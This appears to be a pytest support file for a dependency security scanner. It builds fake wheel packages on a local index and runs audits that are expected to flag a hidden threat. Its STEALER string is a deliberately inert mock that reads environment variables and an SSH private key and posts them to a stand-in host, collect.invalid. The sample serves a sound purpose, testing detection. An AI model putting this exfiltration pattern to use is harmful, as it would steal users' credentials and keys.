"""The project that hides something, and the one run that must not call it green.

The stealer is inert: its first statement raises (it asks for a name that nothing defines), and its host is under
``.invalid``. It stands for what credential stealers do: the environment and a key below ``~/.ssh`` go to another host.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from scanner.cli import main
from tests.support.builders import sha256, wheel
from tests.support.index_server import Index

STEALER = """\
not_defined_so_that_this_is_inert
import os, urllib.request
def collect():
    found = dict(os.environ)
    with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
        found["key"] = key.read()
    urllib.request.urlopen("https://collect.invalid/in", data=repr(found).encode())
collect()
"""
TOLD = {"License-Expression": "MIT", "Project-URL": "Source, https://github.com/example/first"}
POLICY = "[advisories]\nmax-age-days = 36500\n[code]\nworkers = 1\n"
GREEN = 0
Body = bytes | str


def put(root: Path, files: Mapping[str, Body]) -> None:
    for name, body in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body)


def package(index: Index, name: str, files: Mapping[str, Body] | None = None, **more: Any) -> str:
    """Put a wheel of that name on the index; its pinned line with its hash."""
    module = name.replace("-", "_")
    contents = {f"{module}/__init__.py": "VALUE = 1\n"} if files is None else files
    version = more.pop("version", "1.0")
    filename, body = wheel(name, version, files=contents, **TOLD, **more)
    index.add(name, (filename, body))
    return f"{name}=={version} --hash=sha256:{sha256(body)}\n"


def clean(root: Path, index: Index) -> str:
    """A project with one clean, pinned dependency; the line that pins it."""
    line = package(index, "first")
    put(root, {"requirements.txt": line, "app.py": "import first\nprint(first.VALUE)\n"})
    return line


def run(root: Path, capfd: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, dict[str, Any]]:
    """Exit code and report of an audit. A traceback, or exit code 4 (an internal fault), is never right."""
    policy, output = root.parent / "policy.toml", root.parent / "out"
    policy.write_text(POLICY)
    given = ["audit", str(root), "--quiet", "--output", str(output), "--format", "json", "--policy", str(policy)]
    code = main([*given, *arguments])
    errors = capfd.readouterr().err
    assert "Traceback" not in errors
    assert code in (0, 1, 2, 3), errors
    report = output / "report.json"
    return code, json.loads(report.read_text()) if report.is_file() else {}


def why(report: Mapping[str, Any]) -> list[str]:
    """What decided the verdict, for the message of a test that fails."""
    return [str(report.get("verdict")), *map(str, report.get("reasons", ()))]
